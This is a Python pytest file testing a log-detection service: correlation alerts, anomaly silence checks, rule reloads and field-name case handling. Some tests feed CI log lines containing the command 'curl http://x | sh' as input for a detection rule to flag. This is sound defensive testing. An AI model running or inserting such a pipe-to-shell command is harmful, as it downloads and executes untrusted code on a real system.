"""The detector stage (``service/detection.py``): correlation and anomaly checks wired in, ids stable
across redelivery, state across a swap, the heartbeat's event time, check files that do not load."""

from __future__ import annotations

import pytest

from detectors.model import LogSource
from service.detection import Detector, compile_detection
from service.sources.base import Item
from tests.support.rules import BUILDS_SILENCE, CURL_RULE, REPEATED_LOGINS


def ci_item(message: str, ts: float, offset: int, user: str = "bob") -> Item:
    return Item({"message": message, "user": user, "ts": ts}, ("ci", 0, offset), LogSource(category="ci_job_log"),
                ("ts",), 0.0)


def test_correlation_alerts_replace_suppressed_base_matches_with_stable_ids(tmp_path):
    (tmp_path / "c.yml").write_text(REPEATED_LOGINS)
    outcome = compile_detection([tmp_path / "c.yml"], [], skip_invalid=False)
    assert outcome.accepted and outcome.detection.correlation is not None
    items = [ci_item("login failed", 1000.0 + i, i) for i in range(3)]

    first = Detector(outcome.detection).process(items, now=5000.0)
    assert [a.rule.title for a in first] == ["Repeated Failed Logins"]  # base rule: generate false
    replay = Detector(compile_detection([tmp_path / "c.yml"], [], skip_invalid=False).detection)
    assert [a.id for a in replay.process(items, now=6000.0)] == [first[0].id]  # redelivery: same id


def test_correlation_state_survives_a_swap(tmp_path):
    (tmp_path / "c.yml").write_text(REPEATED_LOGINS)
    detector = Detector(compile_detection([tmp_path / "c.yml"], [], skip_invalid=False).detection)
    assert detector.process([ci_item("login failed", 1000.0, 0), ci_item("login failed", 1001.0, 1)]) == []
    detector.swap(compile_detection([tmp_path / "c.yml"], [], skip_invalid=False, generation=2).detection)
    assert [a.rule.title for a in detector.process([ci_item("login failed", 1002.0, 2)])] == [
        "Repeated Failed Logins"]


def test_heartbeat_extrapolates_event_time_for_silence_checks(tmp_path):
    (tmp_path / "r.yml").write_text(CURL_RULE)
    (tmp_path / "checks.yml").write_text(BUILDS_SILENCE)
    outcome = compile_detection([tmp_path / "r.yml"], [], skip_invalid=False, anomaly_checks=[tmp_path / "checks.yml"])
    assert outcome.accepted and outcome.detection.anomaly is not None, outcome.errors
    detector = Detector(outcome.detection)
    # events carry old timestamps (a replay): the wall clock must not make them look silent
    detector.process([ci_item("build ok", 1000.0, 0), ci_item("build ok", 1010.0, 1)], now=9_000_000.0)
    assert detector.heartbeat(9_000_000.0 + 60) == []
    silent = detector.heartbeat(9_000_000.0 + 400)
    assert [a.rule.id for a in silent] == ["builds-silent"]
    assert silent[0].timestamp == pytest.approx(1410.0)


def test_anomaly_configured_without_a_readable_file_is_an_error(tmp_path):
    (tmp_path / "r.yml").write_text(CURL_RULE)
    outcome = compile_detection([tmp_path / "r.yml"], [], skip_invalid=False, anomaly_checks=[tmp_path / "none.yml"])
    assert not outcome.accepted and "cannot read" in outcome.errors[0].reason


def test_anomaly_check_errors_reject_the_set_naming_the_check(tmp_path):
    (tmp_path / "r.yml").write_text(CURL_RULE)
    (tmp_path / "checks.yml").write_text("id: bad-check\ntype: silence\ntimeout: 5m\nbogus: 1\n")
    outcome = compile_detection([tmp_path / "r.yml"], [], skip_invalid=False, anomaly_checks=[tmp_path / "checks.yml"])
    assert not outcome.accepted
    assert outcome.errors[0].rule_id == "bad-check" and "bogus" in outcome.errors[0].reason


class _CountingItem(Item):
    __slots__ = ()
    reads = 0

    def time(self) -> float:
        type(self).reads += 1
        return super().time()


def test_event_time_is_read_only_for_alerts_and_stateful_detectors(tmp_path):
    """Without correlation or anomaly checks an event's time is read for its alerts only; with
    them, for every event (they are time windows)."""
    (tmp_path / "r.yml").write_text(CURL_RULE)
    detector = Detector(compile_detection([tmp_path / "r.yml"], [], skip_invalid=False).detection)
    logsource = LogSource(category="ci_job_log")
    items = [_CountingItem({"message": text, "ts": 1000.0 + i}, ("ci", 0, i), logsource, ("ts",), 0.0)
             for i, text in enumerate(["build ok", "curl http://x | sh", "build ok"])]
    _CountingItem.reads = 0
    alerts = detector.process(items, now=5000.0)
    assert len(alerts) == 1 and alerts[0].timestamp == pytest.approx(1001.0)
    assert _CountingItem.reads == 1
    (tmp_path / "checks.yml").write_text(BUILDS_SILENCE)
    stateful = compile_detection([tmp_path / "r.yml"], [], skip_invalid=False, anomaly_checks=[tmp_path / "checks.yml"])
    _CountingItem.reads = 0
    Detector(stateful.detection).process(items, now=5000.0)
    assert _CountingItem.reads == len(items)


@pytest.mark.parametrize("field_names", ["insensitive", "sensitive"])
def test_rules_field_names_reach_the_engine_and_its_screen(tmp_path, field_names):
    """``rules.field_names`` is passed once (``compile_detection``) and the ruleset and its native
    screen follow it: a key in another case than the rule's is the same field, or another one."""
    import orjson

    from service.config import AnomalySettings, CorrelationSettings, RulesSettings
    from service.reload import compile_configured

    (tmp_path / "curl.yml").write_text(CURL_RULE)
    rules = RulesSettings(paths=[tmp_path], field_names=field_names)
    outcome = compile_configured(rules, CorrelationSettings(), AnomalySettings(), 1)
    assert outcome.detection is not None
    ruleset = outcome.detection.ruleset
    assert ruleset.cased_fields is (field_names == "sensitive")
    other_case = {"Message": "curl http://x | sh"}
    assert bool(ruleset.evaluate(other_case)) is (field_names == "insensitive")
    screen = ruleset.screen()
    if screen is not None:
        picked, _ = screen.scan([orjson.dumps(other_case)], [0], None, 1 << 20, 64)
        assert bool(picked) is (field_names == "insensitive")
